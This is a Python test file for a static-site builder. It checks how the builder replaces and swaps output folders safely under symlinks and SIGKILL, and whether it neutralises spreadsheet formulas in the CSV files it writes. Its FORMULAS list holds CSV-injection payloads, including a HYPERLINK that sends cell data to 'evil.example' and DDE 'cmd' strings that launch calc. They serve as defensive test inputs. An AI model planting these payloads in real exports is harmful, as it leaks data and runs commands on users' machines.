"""The output folder under hostile or unlucky conditions (issue 14, part A): a build replaces
only a folder it made, never writes through a symlink into something else, never leaves the
output folder missing after a kill, and cleans what a killed build left behind. Also: every
CSV it writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from layers import SiteError, build_site, read_events, table_text
from layers.tables import events_frame
from tests.layers.site_builders import world_events

ROOT = Path(__file__).parents[2]


def _build(out: Path | str) -> None:
    build_site(world_events().iloc[:2], out, images=False)


def _hidden_beside(out: Path) -> list[str]:
    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith("."))


# --- finding 8: which folder a build may replace ------------------------------------------------


def test_a_folder_that_only_looks_like_a_site_is_never_replaced(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "data").mkdir(parents=True)
    (project / ".git").mkdir()
    (project / "src").mkdir()
    (project / "index.html").write_text("<h1>my page</h1>", encoding="utf-8")
    (project / "data" / "events.geojson").write_text("{}", encoding="utf-8")
    (project / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (project / "src" / "app.py").write_text("print('mine')\n", encoding="utf-8")
    with pytest.raises(SiteError, match=r"refusing to replace .*project.*not a site built"):
        _build(project)
    assert (project / ".git" / "HEAD").is_file() and (project / "src" / "app.py").is_file()
    assert (project / "index.html").read_text(encoding="utf-8") == "<h1>my page</h1>"
    assert _hidden_beside(project) == []


def test_a_symlinked_output_folder_stays_a_link_to_the_rebuilt_site(tmp_path: Path) -> None:
    real = tmp_path / "www" / "map"
    real.parent.mkdir()
    link = tmp_path / "site"
    link.symlink_to(real, target_is_directory=True)
    _build(link)  # the target does not exist yet: created
    assert link.is_symlink() and (real / "index.html").is_file()
    (real / "embed" / "stale.html").write_text("old", encoding="utf-8")
    _build(link)  # a rebuild replaces the target, through the link
    assert link.is_symlink() and os.path.realpath(link) == str(real)
    assert (real / "index.html").is_file() and not (real / "embed" / "stale.html").exists()
    assert _hidden_beside(link) == [] and _hidden_beside(real) == []
    unrelated = tmp_path / "project"
    (unrelated / "src").mkdir(parents=True)
    to_unrelated = tmp_path / "site2"
    to_unrelated.symlink_to(unrelated, target_is_directory=True)
    with pytest.raises(SiteError, match="refusing to replace"):
        _build(to_unrelated)  # the rules apply to the folder the link points to
    assert (unrelated / "src").is_dir() and to_unrelated.is_symlink()


def test_the_current_folder_as_output_is_a_clear_refusal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "work"
    here.mkdir()
    monkeypatch.chdir(here)
    for out in (".", str(here), ".."):
        with pytest.raises(SiteError, match="current folder"):
            _build(out)
    assert list(here.iterdir()) == []
    geo = Path(sys.executable).with_name("geo")
    result = subprocess.run(
        [str(geo), "build", "--no-images", "--out", "."],
        cwd=here,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("Error: ")
    assert "current folder" in result.stderr and "EBUSY" not in result.stderr


# --- kill -9: leftovers and the swap -----------------------------------------------------------


def _child(script: str, out: Path) -> subprocess.CompletedProcess[str]:
    """Run ``script`` in a fresh Python with ``out`` and the test tables at hand."""
    prelude = textwrap.dedent(
        f"""
        import os, signal
        from pathlib import Path
        import layers
        from tests.layers.site_builders import world_events
        out = Path({str(out)!r})
        def build():
            layers.build_site(world_events().iloc[:2], out, images=False)
        def die(*args, **kwargs):
            os.kill(os.getpid(), signal.SIGKILL)
        """
    )
    return subprocess.run(
        [sys.executable, "-c", prelude + textwrap.dedent(script)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


def test_a_killed_build_leaves_the_old_site_and_the_next_build_cleans_up(tmp_path: Path) -> None:
    out = tmp_path / "site"
    _build(out)
    before = (out / "index.html").read_bytes()
    killed = _child("import layers.site\nlayers.site.index_page = die\nbuild()\n", out)
    assert killed.returncode == -9, killed.stderr
    assert (out / "index.html").read_bytes() == before  # the old site is untouched
    assert any(name.startswith(".site.building-") for name in _hidden_beside(out))
    _build(out)
    assert _hidden_beside(out) == []


@pytest.mark.parametrize("call", [1, 2])
def test_a_kill_during_the_swap_never_leaves_the_output_folder_missing(
    tmp_path: Path, call: int
) -> None:
    out = tmp_path / "site"
    _build(out)
    # die right after the swap's n-th rename, whatever the swap is made of
    killed = _child(
        f"""
        import os, shutil
        real_replace, real_rename, calls = os.replace, os.rename, [0]
        def replace_then_die(real):
            def wrapped(a, b, *args, **kwargs):
                real(a, b, *args, **kwargs)
                if Path(b).name == out.name or Path(a).name == out.name:
                    calls[0] += 1
                    if calls[0] == {call}:
                        die()
            return wrapped
        os.replace = replace_then_die(real_replace)
        os.rename = replace_then_die(real_rename)
        shutil.rmtree = die  # the old site is deleted only after the swap: die there too
        build()
        """,
        out,
    )
    assert killed.returncode == -9, killed.stderr
    assert (out / "index.html").is_file() and (out / "data" / "events.geojson").is_file()
    _build(out)
    assert (out / "index.html").is_file() and _hidden_beside(out) == []


def test_without_an_atomic_exchange_the_next_build_puts_an_orphaned_old_site_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # where the system has no exchange (not Linux), the swap is two renames: a kill between
    # them leaves the old site aside; the next build, even one that fails, puts it back
    out = tmp_path / "site"
    _build(out)
    before = (out / "index.html").read_bytes()
    killed = _child(
        """
        import layers.output
        layers.output._exchange = lambda a, b: False
        real_replace = os.replace
        def replace_then_die(a, b):
            real_replace(a, b)
            die()
        os.replace = replace_then_die
        build()
        """,
        out,
    )
    assert killed.returncode == -9, killed.stderr
    assert not out.exists()  # the window the exchange closes on Linux

    import layers.site

    def broken(*args: object, **kwargs: object) -> None:
        raise SiteError("disk full")

    monkeypatch.setattr(layers.site, "copy_assets", broken)
    with pytest.raises(SiteError, match="disk full"):
        _build(out)
    assert (out / "index.html").read_bytes() == before
    assert _hidden_beside(out) == []


# --- finding 9: formulas in CSV cells -----------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_never_start_a_formula_and_read_back_unchanged(tmp_path: Path) -> None:
    events = world_events().iloc[: len(FORMULAS)].copy()
    events["title"] = FORMULAS
    events["place_name"] = ["=1+2"] * len(FORMULAS)
    out = tmp_path / "site"
    build_site(events, out, images=False)
    for name in ("events", "mentions", "places"):
        text = (out / "data" / f"{name}.csv").read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only a number may start with a sign
    titles = sorted(events_frame(events)["title"])  # as the site keeps them (stripped)
    rows = list(csv.DictReader(io.StringIO((out / "data" / "events.csv").read_text("utf-8"))))
    assert sorted(r["title"] for r in rows) == ["'" + t for t in titles]
    back = read_events(out / "data" / "events.csv")
    assert sorted(back["title"]) == titles
    assert set(back["place_name"]) == {"=1+2"}


def test_every_csv_writer_neutralises_tabs_and_carriage_returns_too() -> None:
    events = world_events().iloc[:2].copy()
    events["title"] = ["\t=1+1", "\r@SUM(1)"]  # as a table from elsewhere may hold them
    for row in csv.DictReader(io.StringIO(table_text(events, "csv"), newline="")):
        assert row["title"][:1] == "'"


# --- finding 3, from the layers side: a table from elsewhere with lone surrogates -----------------


def test_an_events_table_with_lone_surrogates_still_builds(tmp_path: Path) -> None:
    source = tmp_path / "events.geojson"
    source.write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", '
        '"geometry": {"type": "Point", "coordinates": [38.76, 9.03]}, '
        '"properties": {"id": "e1", "title": "Talks \\ud800 end", "start": "2024-11-02", '
        '"place_name": "Addis\\udfff"}}]}',
        encoding="utf-8",
    )
    out = tmp_path / "site"
    build_site(read_events(source), out, images=False)
    text = (out / "data" / "events.csv").read_text(encoding="utf-8")
    assert "Talks \ufffd end" in text and "Addis\ufffd" in text
